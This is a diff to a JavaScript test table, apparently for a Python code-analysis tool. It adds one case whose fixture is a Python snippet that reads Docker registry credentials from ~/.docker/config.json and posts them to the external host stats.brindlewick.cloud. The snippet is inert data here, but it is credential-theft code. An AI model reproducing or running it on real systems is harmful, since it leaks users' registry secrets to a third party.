@@ -37,6 +37,13 @@ test.each([
     },
   ],
   [
+    "one of a list that may be missing",
+    {
+      "a.py":
+        'import json, os, requests\ndata = json.load(open(os.path.expanduser("~/.docker/config.json")))\nhosts = data.get("auths", [])\nrequests.post("https://stats.brindlewick.cloud/x", json=hosts[2])',
+    },
+  ],
+  [
     "what was added to an entry of a map with defaults",
     {
       "a.py":
